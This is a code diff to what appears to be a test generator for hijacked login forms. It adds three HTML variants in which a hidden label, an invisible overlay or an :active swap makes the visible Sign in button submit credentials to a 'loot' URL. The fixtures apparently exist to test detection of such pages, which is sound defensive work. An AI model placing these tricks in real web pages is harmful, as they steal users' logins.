@@ -57,6 +57,9 @@ SHAPES = {
     "taken-unseen-window": ("login", "the same, and its answer is shown in another window"),
     "taken-unseen-frame": ("login", "the same, and its answer is shown in a frame of another server"),
     "taken-unseen-owner": ("login", "the fields belong to another form, by their attribute"),
+    "taken-label": ("login", "the button is in a label of another one, which is not seen"),
+    "taken-inner": ("login", "a label of the button is over it, and has another one inside"),
+    "taken-active": ("login", "something comes under the mouse between its press and its release, so that the label is clicked"),
     "taken-hover": ("login", "the mouse brings another button over the one that it was moved to"),
     "taken-focus": ("login", "a frame of another site takes the focus all the time, and sends on what is typed there"),
     "void": ("login", "the same, and the action of the form is 'javascript:void(0)'"),
@@ -68,6 +71,15 @@ UNSEEN = {
         "taken-unseen-frame": 'formtarget="inner"', "taken-unseen-owner": 'form="owner"'}.items()}
 HOVER = ('<style>#over { display: none } form:hover #over { display: block; position: fixed; inset: 0; z-index: 9 }</style>'
          '<button id="over" formaction="{loot}" formtarget="_blank"></button>')
+# What is around the button that is seen: a click on a label presses another one.
+LABELS = {
+    "taken-label": '<label for="other">%s</label><button id="other" style="display: none" {to}></button>',
+    "taken-inner": '<style>div { position: relative } label.over { position: absolute; inset: 0 } .over button '
+                   '{ width: 100%%; height: 100%%; opacity: 0 }</style>'
+                   '<div>%s<label class="over" for="shown"><button {to}></button></label></div>',
+    "taken-active": '<style>label.w { position: relative } label.w span { display: none } label.w:active span '
+                    '{ display: block; position: absolute; inset: 0; z-index: 9 }</style>'
+                    '<label class="w" for="other">%s<span></span></label><button id="other" style="display: none" {to}></button>'}
 # Logins whose server redirects what was sent to another one (307, 308): what differs from a form with two fields.
 TAKEN_BY_REDIRECT = {
     "taken-redirect": ("the form as it is", {}),
@@ -180,8 +192,10 @@ def taken(visit, shape):
         "base": f'<base href="{visit.context.urls["other"]}/">' if shape == "taken-base" else "",
         "target": by_redirect.get("target", "/scripted/passed") if shape in TAKEN_BY_REDIRECT
         else {"taken-base": "scripted/loot", "taken-hover": "/scripted/honest?hover"}.get(shape, "/scripted/honest"),
-        "send": "" if shape in UNSEEN else '<button type="submit" %s>Sign in</button>' % {
-            "taken-button": f'formaction="{loot}"', "taken-get": 'formmethod="get"'}.get(shape, ""),
+        "send": "" if shape in UNSEEN else LABELS.get(shape, "%s").replace("{to}", f'formaction="{loot}" formtarget="_blank"')
+        % ('<button type="submit" id="shown" %s>Sign in</button>' % {
+            "taken-button": f'formaction="{loot}"', "taken-get": 'formmethod="get"',
+            "taken-label": 'style="pointer-events: none"'}.get(shape, "")),
         "unseen": (HOVER if shape == "taken-hover" else UNSEEN.get(shape, "")).replace("{loot}", loot),
         "change": f'form.action = "{loot}";' if shape == "taken-script" else by_redirect.get("change", "").replace("{loot}", loot),
         "frame": f'<iframe src="{thief}" width="300" height="60"></iframe>' if shape == "taken-focus"
